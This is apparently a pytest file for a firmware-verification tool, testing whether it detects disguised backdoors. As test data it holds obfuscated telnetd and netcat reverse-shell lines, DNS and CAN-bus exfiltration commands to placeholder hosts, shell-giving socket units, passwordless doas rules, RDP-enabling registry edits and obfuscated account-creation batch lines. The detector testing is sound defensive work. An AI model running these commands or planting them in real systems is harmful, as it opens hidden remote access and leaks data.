"""Ways to hide a way in that were silent once: each is said, and its harmless neighbour not."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from fwverify.analyse import accounts, services
from fwverify.analyse.config.reader import configuration
from fwverify.analyse.readings import MAX_TEXT_BYTES, readings
from fwverify.analyse.rules import load_rules
from fwverify.analyse.scan import _otherwise
from fwverify.analyse.scripts import hidden_starts
from fwverify.analyse.shell import disguised
from fwverify.analyse.values import BlobRequest, PathRequest


def at(path: str, text: str) -> set[str]:
    request = PathRequest(store="/", sha256="0" * 64, path=path)
    return {hit.rule for hit in services.examine(text.encode(), request).hits}


def rules(content: bytes) -> set[str]:
    return {hit.rule for hit in configuration(content)[1]}


# --- scripts -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        ("a=tel; b=netd; $a$b -l /bin/sh", "service.telnet"),
        ('tel""netd -l /bin/sh # telnetd', "service.telnet"),
        ("n=nc\n$n -e /bin/sh 203.0.113.7 9", "service.netcat_shell"),
        ("x\\\n11vnc -forever", "service.remote_desktop"),
    ],
)
def test_a_start_that_only_the_shell_reads(body: str, rule: str) -> None:
    assert {hit.rule for hit in hidden_starts(f"#!/bin/sh\n{body}\n".encode())} == {rule}


@pytest.mark.parametrize(
    "content",
    [
        b"#!/bin/sh\ntelnetd -l /bin/sh\n",  # plain to see: the rules say it
        b"#!/bin/sh\na=tel; b=netd; echo $a$b\n",
        b"#!/bin/sh\na=tel; b=netd; killall $a$b\n",
        b"#!/usr/bin/python3\na=tel; b=netd; $a$b\n",
        b"a=tel; b=netd; $a$b -l /bin/sh\n",
        b"",
    ],
)
def test_what_is_plain_or_no_start_is_not_said_again(content: bytes) -> None:
    assert hidden_starts(content) == ()


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("$(printf '\\164\\145') -l /bin/sh &", "shell.variable_exec"),
        ('t() { telne"$1" -l /bin/sh; }', "shell.variable_exec"),
        ("exec -a telnetd /bin/busybox -l /bin/sh", "shell.another_name"),
        ("nslookup $c.x.example.net", "shell.name_query"),
        ('dig +short "${data}.x.example.net"', "shell.name_query"),
        ("candump can0 | nc 203.0.113.7 9", "shell.bus_sent_away"),
        ("candump -L can0 | gzip | curl -T - http://h/", "shell.bus_sent_away"),
    ],
)
def test_a_habit(line: str, rule: str) -> None:
    assert rule in {hit.rule for hit in disguised(f"#!/bin/sh\n{line}\n")}


@pytest.mark.parametrize(
    "line",
    [
        "x=$(printf a) true",
        "echo telne$1",
        'exec -a "$0" /bin/prog',
        "exec /bin/prog -a x",
        "nslookup $host",
        "ping $host.local",
        "host example.net; echo $a.b",
        "candump can0 | grep 123",
        "candump can0 > log; nc -z host 1",
        "$prefix/bin/prog $1",
    ],
)
def test_a_neighbour_of_a_habit(line: str) -> None:
    assert disguised(f"#!/bin/sh\n{line}\n") == ()


# --- what starts by itself -----------------------------------------------------------

_SOCKET = "[Service]\nExecStart={}\nStandardInput=socket\n"


@pytest.mark.parametrize("command", ["-/bin/sh -i", "/bin/bash", "-/bin/login", "/bin/busybox sh"])
def test_a_socket_that_gives_a_shell(command: str) -> None:
    found = at("etc/systemd/system/x@.service", _SOCKET.format(command))
    assert found == {"service.socket_shell"}


@pytest.mark.parametrize(
    "text",
    [
        _SOCKET.format("/usr/bin/checkmk-agent"),
        _SOCKET.format("/bin/sh -c /usr/lib/answer"),
        _SOCKET.format("/usr/bin/publish"),
        _SOCKET.format("-/bin/sh -i").replace("socket", "tty"),
        "[Service]\nExecStart=-/bin/sh -i\n# StandardInput=socket\n",
    ],
)
def test_a_socket_that_gives_no_shell(text: str) -> None:
    assert at("etc/systemd/system/x@.service", text) == set()


def test_a_generator_that_writes_a_unit() -> None:
    text = "#!/bin/sh\nprintf '[Service]\\nExecStart=/usr/sbin/telnetd -F\\n' > $1/x.service\n"
    assert at("usr/lib/systemd/system-generators/x", text) == {"service.telnet"}
    assert at("usr/lib/systemd/system-generators/x", text.replace("telnetd", "agetty")) == set()
    assert at("usr/lib/systemd/other/x", text) == set()


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("permit nopass svc\n", True),
        ("permit nopass keepenv :wheel as root\n", True),
        ("permit persist :wheel\n", False),
        ("deny nopass svc\n", False),
        ("# permit nopass svc\n", False),
    ],
)
def test_doas_without_a_password(text: str, said: bool) -> None:
    request = PathRequest(store="/", sha256="0" * 64, path="etc/doas.conf")
    assert bool(accounts.examine(text.encode(), request).hits) is said


# --- configuration -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "rule"),
    [
        (b"console=ttyS0 root=/dev/mmcblk0p2 init=/bin/sh\n", "config.boot_shell"),
        (b"root=/dev/sda1 rdinit=/bin/bash quiet", "config.boot_shell"),
        (b'{"serverAddr":"203.0.113.7","serverPort":7000}', "config.frp"),
        (b"serverAddr: 203.0.113.7\nserverPort: 7000\n", "config.frp"),
    ],
)
def test_configuration_in_another_form(content: bytes, rule: str) -> None:
    assert rules(content) == {rule}


@pytest.mark.parametrize(
    "content",
    [
        b"console=ttyS0 init=/sbin/init root=/dev/sda1\n",
        b"to repair, boot with init=/bin/sh\n",
        b"see root=/dev/sda1\nand init=/bin/sh\n",
        b'{"serverAddr":"203.0.113.7"}',
        b'{"myserverAddr":"203.0.113.7","serverPort":7000}',
    ],
)
def test_configuration_that_says_nothing(content: bytes) -> None:
    assert rules(content) == set()


_INF = '[Version]\r\nSignature="$Windows NT$"\r\n[D]\r\nAddReg=r\r\n[r]\r\n{}\r\n'
_TS = r"System\CurrentControlSet\Control\Terminal Server"


@pytest.mark.parametrize(
    ("line", "found"),
    [
        (f'HKLM,"{_TS}",fDenyTSConnections,0x10001,0', {"registry.rdp"}),
        (f'hklm , {_TS} , "fDenyTSConnections" , 0x00010001 , 0x0 ; x', {"registry.rdp"}),
        (r'HKLM,"Software\Microsoft\Windows\CurrentVersion\Run",x,,"c:\x.exe"', {"registry.run"}),
        (f'HKLM,"{_TS}",fDenyTSConnections,0x10001,1', set()),
        (f'HKLM,"{_TS}",Other,0x10001,0', set()),
        (f'; HKLM,"{_TS}",fDenyTSConnections,0x10001,0', set()),
        (f'HKLM,"{_TS}"', set()),
    ],
)  # fmt: skip
@pytest.mark.parametrize("coding", ["utf-8", "utf-16"])
def test_a_setup_file_sets_registry_values(line: str, found: set[str], coding: str) -> None:
    assert rules(_INF.format(line).encode(coding)) == found


# --- other readings ------------------------------------------------------------------


@pytest.mark.parametrize("coding", ["utf-16", "utf-16-be"])
def test_a_wide_text_is_read_as_text(coding: str) -> None:
    mark = b"" if coding == "utf-16" else b"\xfe\xff"
    found, troubles = readings(mark + "net user a b /add".encode(coding))
    assert [(each.content, each.scale) for each in found] == [(b"net user a b /add", 2)]
    assert troubles == ()


@pytest.mark.parametrize(
    ("batch", "typed"),
    [
        ("@echo off\r\nn^e^t us^er a b /a^dd", b"net user a b /add"),
        ("@echo off\r\nset x=powers\r\nset y=hell\r\n%x%%y% -e JA", b"powershell -e JA"),
        ("@echo off\r\nset x=n&set y=et\r\n!X!!y! user", b"net user"),
        ("@echo off\r\nnet ^\r\nuser a", b"net user a"),
    ],
)
def test_a_batch_file_is_read_as_it_runs(batch: str, typed: bytes) -> None:
    found, _ = readings(batch.encode())
    assert [each.content.splitlines()[-1] for each in found] == [typed]


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\xff\xfe",
        b"@echo off\r\nnet user\r\n",
        b"plain text, 50% off and 60% more\n",
        b"a ^ b\n",
        b"\x7fELF\0\0" + b"n^e^t us^er",
        b"\xff\xfe" + bytes(range(128, 256)) * 40,
    ],
)
def test_a_content_with_one_reading(content: bytes) -> None:
    assert [each for each in readings(content)[0] if each.content] == []


def test_the_end_of_a_large_text_is_said_not_to_be_read() -> None:
    content = b"@echo off\n" + b"n^et user %x% ^" * (MAX_TEXT_BYTES // 8)
    start = time.monotonic()
    found, troubles = readings(content)
    assert time.monotonic() - start < 20
    assert len(found) == 1
    assert [trouble.code for trouble in troubles] == ["limit.text_bytes"]


@pytest.mark.parametrize(
    ("content", "offset"),
    [
        ("@echo off\r\nn^et us^er a b /a^dd\r\nn^et localgroup administrators a /add\r\n", None),
        ("net user a b /add\r\nnet localgroup administrators a /add\r\n", 2),
    ],
)
def test_the_rules_look_at_every_reading(content: str, offset: int | None) -> None:
    bundle = load_rules((Path(__file__).parents[2] / "yara_rules",)).bundle()
    request = BlobRequest(store="/", sha256="0" * 64, rules="0" * 64, yara_seconds=20)
    raw = content.encode("utf-8" if offset is None else "utf-16")
    found = _otherwise(raw, bundle, request, set())
    assert [(hit.rule, hit.offset) for hit in found.hits] == [("win_user_add", offset)]
    assert _otherwise(raw, bundle, request, {"win_user_add"}).hits == ()


CHINESE = "远程监听服务已开启,请勿断电。\n密码: 123456\n"


@pytest.mark.parametrize("coding", ["gbk", "gb18030", "gb2312"])
def test_a_chinese_text_is_also_read_in_utf8(coding: str) -> None:
    (reading,) = readings(CHINESE.encode(coding))[0]
    assert "远程监听" in reading.content.decode()
    assert reading.scale == 0


def test_a_byte_that_is_no_chinese_hides_nothing() -> None:
    for at in (0, 7, len(CHINESE.encode("gbk"))):
        raw = CHINESE.encode("gbk")
        (reading,) = readings(raw[: at // 2 * 2] + b"\xff" + raw[at // 2 * 2 :])[0]
        assert "密码" in reading.content.decode()


@pytest.mark.parametrize(
    "content",
    [
        CHINESE.encode(),
        CHINESE.encode()[:20],
        CHINESE.encode("gbk") + b"\0",
        b"plain text\n" * 20,
        "Größe, Länge, Übertragung: für alle\n".encode("latin-1") * 9,
        "Прибор учёта энергии\n".encode("cp1251") * 9,
        "Déjà vu à Genève\n".encode("cp1252") * 9,
    ],
)
def test_other_texts_are_not_taken_for_chinese(content: bytes) -> None:
    assert readings(content) == ((), ())


def test_a_large_chinese_text_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("fwverify.analyse.readings.MAX_TEXT_BYTES", 64)
    found, troubles = readings(CHINESE.encode("gbk") * 9)
    assert len(found) == 1
    assert [trouble.code for trouble in troubles] == ["limit.text_bytes"]
